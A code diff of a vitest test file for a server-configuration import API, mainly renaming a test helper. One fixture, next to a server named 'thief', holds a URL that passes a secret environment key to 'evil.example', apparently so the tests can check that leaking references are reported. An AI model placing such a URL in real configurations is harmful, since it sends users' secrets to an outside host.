@@ -1,13 +1,13 @@
 /* biome-ignore-all lint/suspicious/noTemplateCurlyInString: references are written like this */
 
 import { expect, test } from 'vitest'
-import { AUTHORISED, type House, openHouse } from '../../../test/support/house.ts'
 import { houseWithRegistry } from '../../../test/support/packages.ts'
 import { toolPackage } from '../../../test/support/registry/registry.ts'
+import { AUTHORISED, openTestService, type TestService } from '../../../test/support/test-service.ts'
 import type { ImportReport } from '../../import/snippet-import.schema.ts'
 
-async function importing(house: House, payload: object): Promise<ImportReport> {
-  const reply = await house.inject({
+async function importing(service: TestService, payload: object): Promise<ImportReport> {
+  const reply = await service.inject({
     method: 'POST',
     url: '/api/servers/import',
     headers: AUTHORISED,
@@ -18,7 +18,7 @@ async function importing(house: House, payload: object): Promise<ImportReport> {
 }
 
 test('a snippet is imported with its references translated, and lists the variables that would leave (api.md, References)', async () => {
-  const house = await openHouse()
+  const service = await openTestService()
   const servers = {
     docs: {
       type: 'http',
@@ -37,8 +37,8 @@ test('a snippet is imported with its references translated, and lists the variab
     other: { url: 'https://evil.example/?k=${env:TOOLROOM_SECRET_KEY}' },
   }
   const inputs = [{ id: 'region', type: 'pickString', default: 'eu' }]
-  const dry = await importing(house, { servers, inputs, dry_run: true })
-  const { items } = await importing(house, { servers, inputs })
+  const dry = await importing(service, { servers, inputs, dry_run: true })
+  const { items } = await importing(service, { servers, inputs })
   expect(items.map(({ id: _, ...item }) => item)).toEqual(dry.items.map(({ id: _, ...item }) => item))
   const [docs, notes, scripted, figma, thief, other] = items
   expect(docs).toMatchObject({
@@ -57,9 +57,9 @@ test('a snippet is imported with its references translated, and lists the variab
       'url refers to ${env:DOCS_URL}, with a default',
     ],
   })
-  expect((await house.inject('/api/http-servers/docs')).json()).toMatchObject({ enabled: false })
-  expect(await house.rooms.servers.get('notes')).toMatchObject({
-    args: ['-y', 'notes-mcp', '--dir', `${house.home}/notes`, '--root', '${workspaceFolder}', '$${HOME}'],
+  expect((await service.inject('/api/http-servers/docs')).json()).toMatchObject({ enabled: false })
+  expect(await service.rooms.servers.get('notes')).toMatchObject({
+    args: ['-y', 'notes-mcp', '--dir', `${service.home}/notes`, '--root', '${workspaceFolder}', '$${HOME}'],
     env: { KEY: '${env:NOTES_KEY}', PLAIN_TOKEN: 'hunter22hunter22', LEVEL: 'info' },
   })
   expect(notes).toMatchObject({
@@ -71,7 +71,7 @@ test('a snippet is imported with its references translated, and lists the variab
       'env KEY refers to ${env:NOTES_KEY}: set NOTES_KEY in the environment of Toolroom',
     ],
   })
-  expect(await house.rooms.servers.get('scripted')).toMatchObject({
+  expect(await service.rooms.servers.get('scripted')).toMatchObject({
     args: ['-c', 'run ${TOKEN}', '${env:SAFE}'],
   })
   expect(scripted?.notes[0]).toBe(
@@ -90,38 +90,42 @@ test('a snippet is imported with its references translated, and lists the variab
 })
 
 test('with pin and move_secrets, the package is installed once and run by file, and the secret gets a name', async () => {
-  const { house } = await houseWithRegistry([toolPackage('notes-mcp', '1.2.0')])
+  const { service } = await houseWithRegistry([toolPackage('notes-mcp', '1.2.0')])
   const mcpServers = {
     notes: { command: 'npx', args: ['-y', 'notes-mcp@latest', '--flag'], env: { KEY: 'hunter22hunter22' } },
     absent: { command: 'npx', args: ['-y', 'no-such-package-mcp'], env: { KEY: 'another-value-0' } },
   }
   const options = { pin: true, move_secrets: true, start_mode: 'eager' }
-  const { items } = await importing(house, { mcpServers, ...options })
+  const { items } = await importing(service, { mcpServers, ...options })
   expect(items.map(({ outcome, can_pin }) => [outcome, can_pin])).toEqual([
     ['created', 'notes-mcp@latest'],
     ['created', 'no-such-package-mcp'],
   ])
   expect(items[1]?.notes[0]).toContain('no-such-package-mcp could not be installed, so npx runs it')
-  expect(await house.rooms.servers.get('notes')).toMatchObject({
+  expect(await service.rooms.servers.get('notes')).toMatchObject({
     package: 'notes-mcp',
     args: ['--flag'],
     env: { KEY: '${secret:KEY}' },
     start_mode: 'eager',
   })
-  expect(await house.rooms.servers.get('absent')).toMatchObject({
+  expect(await service.rooms.servers.get('absent')).toMatchObject({
     command: 'npx',
     env: { KEY: '${secret:KEY-2}' },
   })
   // Nothing was started, but it can be.
-  expect((await house.inject('/api/servers/notes')).json()).toMatchObject({ pid: null })
-  const started = await house.inject({ method: 'POST', url: '/api/servers/notes/start', headers: AUTHORISED })
+  expect((await service.inject('/api/servers/notes')).json()).toMatchObject({ pid: null })
+  const started = await service.inject({
+    method: 'POST',
+    url: '/api/servers/notes/start',
+    headers: AUTHORISED,
+  })
   expect(started.statusCode, started.body).toBe(200)
 })
 
 test('a report names variables, headers and the program without their values; a name is for the only server of a snippet', async () => {
-  const house = await openHouse()
+  const service = await openTestService()
   const snippet = 'NOTES_TOKEN=hunter22hunter22 node ./notes.js'
-  const { items } = await importing(house, { snippet, name: 'My notes', dry_run: true })
+  const { items } = await importing(service, { snippet, name: 'My notes', dry_run: true })
   expect(items).toMatchObject([
     {
       name: 'My notes',
@@ -137,12 +141,12 @@ test('a report names variables, headers and the program without their values; a 
     docs: { url: 'https://docs.example.com/mcp', headers: { 'X-Team': 'blue' } },
     lost: { command: 'no-such-program-anywhere' },
   }
-  const both = await importing(house, { mcpServers, dry_run: true })
+  const both = await importing(service, { mcpServers, dry_run: true })
   expect(both.items).toMatchObject([
     { name: 'docs', headers: ['X-Team'], program: null },
     { name: 'lost', program: { ok: false, detail: expect.stringContaining('was not found in any of') } },
   ])
-  const refused = await house.inject({
+  const refused = await service.inject({
     method: 'POST',
     url: '/api/servers/import',
     headers: AUTHORISED,
